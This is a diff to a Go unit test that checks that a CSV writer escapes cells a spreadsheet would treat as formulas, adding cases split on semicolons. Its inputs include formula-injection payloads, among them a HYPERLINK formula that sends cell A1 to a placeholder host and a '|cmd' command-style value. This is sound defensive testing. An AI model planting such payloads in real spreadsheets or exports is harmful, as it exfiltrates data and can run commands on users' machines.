@@ -139,7 +139,7 @@ func TestThePageShowsTheReport(t *testing.T) {
 // TestNoCellIsAFormula: a cell that a spreadsheet would evaluate begins with an apostrophe, and every line has every column.
 func TestNoCellIsAFormula(t *testing.T) {
 	t.Parallel()
-	for _, s := range []string{`=HYPERLINK("http://x/?"&A1,"a")`, "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "|cmd", "%00", "\uff1d1", hostile, "a,b\n\"c\""} {
+	for _, s := range []string{`=HYPERLINK("http://x/?"&A1,"a")`, "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "|cmd", "%00", "\uff1d1", hostile, "a,b\n\"c\"", "why; =HYPERLINK(1)", `a;"=1`, "a;;@x"} {
 		var out bytes.Buffer
 		if err := WriteCSV(&out, sample(s)); err != nil {
 			t.Fatal(err)
@@ -152,6 +152,11 @@ func TestNoCellIsAFormula(t *testing.T) {
 			for i, c := range row {
 				if r, _ := utf8.DecodeRuneInString(c); c != "" && strings.ContainsRune("=+-@|%\t\r\n＝＋－＠", r) || len(row) != len(columns) {
 					t.Errorf("%q: column %s is %q", s, columns[i], c)
+				}
+				for _, part := range strings.Split(c, ";") { // the separator in many languages
+					if r, _ := utf8.DecodeRuneInString(strings.TrimLeft(part, ` "`)); strings.ContainsRune("=+-@|%＝＋－＠", r) {
+						t.Errorf("%q: column %s is %q, which some spreadsheets split", s, columns[i], c)
+					}
 				}
 			}
 		}
